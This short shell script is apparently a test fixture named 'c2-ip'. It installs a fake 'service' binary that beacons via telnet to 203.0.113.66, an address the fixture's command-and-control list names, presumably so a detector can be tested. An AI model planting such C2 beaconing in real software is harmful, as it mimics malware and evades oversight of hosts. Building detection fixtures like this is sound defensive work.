#!/bin/sh
# Fixture c2-ip: The service beacons to an address on the command-and-control list the fixture supplies (c2.txt).
set -e
mkdir -p /usr/local/bin
cat > /usr/local/bin/service <<'SERVICE'
#!/bin/sh
echo beacon | telnet 203.0.113.66 80 2> /dev/null || true
SERVICE
chmod 755 /usr/local/bin/service
